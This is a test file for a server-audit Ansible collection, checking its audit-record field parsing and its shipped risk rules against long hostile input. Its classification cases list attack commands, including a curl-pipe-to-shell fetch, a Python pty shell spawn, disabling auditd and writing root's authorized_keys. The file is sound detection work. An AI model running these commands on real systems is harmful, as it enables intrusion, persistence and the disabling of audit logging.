"""Long words and many names a sender writes: the field readers, the shipped risk rules and
the assembler's tables.

A sender controls every byte of a record, up to the 64 KiB line limit.  The expressions that
read fields and judge commands are written so that no offset of a long word is scanned again
from every later offset (their cost, 16 KiB against 64 KiB, is printed by
benchmarks/hostile_lines.py).  These tests show that what they find is unchanged: the same
fields as the plain expressions find, and the same verdicts on real commands.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.whotouched.server_audit.plugins.module_utils._events import records
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    EventAssembler,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.records import (
    build_event,
    parse_fields,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
    classify,
    compile_risk_rules,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk_rules import (
    SHIPPED_RISK_RULES,
)
from tests.support.audit_records import exec_records, stored

# The plain expressions, as first written: what the fields mean.
PLAIN_FIELD = re.compile(r"""([^\s=]+)=('[^']*'?|"[^"]*"?|[^\s\x1d]*)""")
PLAIN_KERNEL_FIELD = re.compile(r"([^\s=]+)=(\S*)")

PIECES = st.sampled_from(["a", "b", "=", " ", "'", '"', "\x1d", "\t", "msg", "x=", "=y",
                          "''", '""', "a=b", "\u00a0"])
TEXT = st.lists(PIECES, max_size=30).map("".join)


@settings(max_examples=600, deadline=None)
@given(TEXT)
def test_the_field_readers_find_what_the_plain_expressions_find(text):
    assert [pair for pair in records._FIELD.findall(text) if pair[0]] == \
        PLAIN_FIELD.findall(text)
    assert records._KERNEL_FIELD.findall(text) == PLAIN_KERNEL_FIELD.findall(text)


@pytest.mark.parametrize("body", [
    "op=x " + "a" * 65000,
    "pid=1 uid=0 msg='op=x " + "a" * 65000 + " res=success'",
    "pid=1 " + "'" * 65000,
    "pid=1 uid=0 " + "=" * 65000 + " res=success",
])
def test_a_long_word_of_a_user_record_keeps_the_fields_around_it(body):
    fields, _names = parse_fields(body)
    assert fields["pid" if "pid=" in body else "op"] in ("1", "x")
    assert "" not in fields
    if "res=success" in body:
        assert fields["res"] == "success"


RULES = compile_risk_rules(SHIPPED_RISK_RULES)


def level_of(command):
    argv = command.split(" ")
    syscall = ('arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 euid=0 '
               'tty=pts0 ses=3 comm="x" exe="/usr/bin/%s" key="exec"' % argv[0])
    execve = "argc=%d " % len(argv) + " ".join('a%d="%s"' % item for item in enumerate(argv))
    event = build_event("1700000000.000:1", [("SYSCALL", syscall), ("EXECVE", execve)])
    classify(event, RULES)
    return event["level"], event.get("reasons") or []


@pytest.mark.parametrize("command, level", [
    ("systemctl stop auditd", "critical"),
    ("systemctl --now disable rsyslog.service", "critical"),
    ("systemctl " + "x " * 30000 + "stop auditd", "critical"),
    ("systemctl status auditd", "info"),
    ("systemctl stop firewalld", "high"),
    ("systemctl " + "stop " * 12000 + "nginx", "info"),
    ("tee -a /root/.ssh/authorized_keys", "high"),
    ("cp tee k /root/.ssh/authorized_keys", "high"),
    ("scp " + "scp " * 15000 + "k /root/.ssh/authorized_keys", "high"),
    ("tee a ; b /root/.ssh/authorized_keys", "info"),
    ("bash -c curl http://x | sh", "critical"),
    ("bash -c curl http://x | /usr/bin/bash", "critical"),
    ("bash -c " + "curl|" * 12000 + "x", "info"),
    ("bash -c curl http://x | less", "info"),
    ("python3 -c import socket,pty;s=socket.socket();pty.spawn('/bin/sh')", "critical"),
    ("python3 -c " + "socket " * 9000, "info"),
])
def test_the_rules_judge_long_and_ordinary_commands_alike(command, level):
    assert level_of(command)[0] == level, level_of(command)


# ---------------------------------------------------------------- node names

def _node_lines(count, name_length, stamp_of):
    for number in range(count):
        node = ("n%d-" % number).ljust(name_length, "x")
        for line in exec_records(["id"], serial=number + 1, epoch=stamp_of(number), node=node):
            yield stored([line])[0]


@pytest.mark.parametrize("stamp_of", [
    lambda number: "1700000000.%03d" % (number % 1000),  # whole events
    lambda number: "nan",  # every record malformed
])
def test_a_new_node_in_every_record_leaves_nothing_behind(stamp_of):
    assembler = EventAssembler()
    given = list(assembler.feed_lines(_node_lines(5000, 200, stamp_of)))
    assert len(given) == (5000 if stamp_of(0) != "nan" else 0)
    assert not assembler._pending and not assembler._begun
    assert len(assembler._proctitle_senders) <= 10000


def test_the_latest_senders_that_write_proctitle_are_remembered_and_no_more():
    assembler = EventAssembler()
    list(assembler.feed_lines(_node_lines(12000, 20, lambda number: "1700000000.000")))
    assert len(assembler._proctitle_senders) == 10000
    assert ("192.0.2.10", "n11999-".ljust(20, "x")) in assembler._proctitle_senders


def test_a_node_name_longer_than_a_host_name_is_malformed():
    assembler = EventAssembler()
    lines = list(_node_lines(1, 256, lambda number: "1700000000.000")) + \
        list(_node_lines(1, 255, lambda number: "1700000000.001"))
    given = list(assembler.feed_lines(lines)) + assembler.flush()
    assert [event["node"] for event in given] == ["n0-".ljust(255, "x")]
    assert assembler.counts["malformed"] == len(lines) // 2


def test_a_sender_over_the_cap_of_waiting_events_pushes_out_its_own_not_anothers():
    assembler = EventAssembler(max_pending=300, wait_events=256)
    real = stored(exec_records(["auditctl", "-D"], serial=1))
    given = list(assembler.feed_lines(real[:1]))  # its SYSCALL record: the event waits
    flood = []
    for number in range(400):  # unfinished events over 20 nodes of another address
        node = "n%d" % (number % 20)
        flood += stored(exec_records(["id"], serial=1000 + number, node=node),
                        address="192.0.2.66")[:1]
    given += assembler.feed_lines(flood)
    given += assembler.feed_lines(real[1:])
    mine = [event for event in given if event["address"] == "192.0.2.10"]
    assert [(event["argv"], event["complete"]) for event in mine] == [(["auditctl", "-D"], True)]
    assert classify(mine[0], RULES)["level"] == "critical"
    assert assembler.counts["evicted"] == 101
    assert {event["address"] for event in given if not event["complete"]} == {"192.0.2.66"}
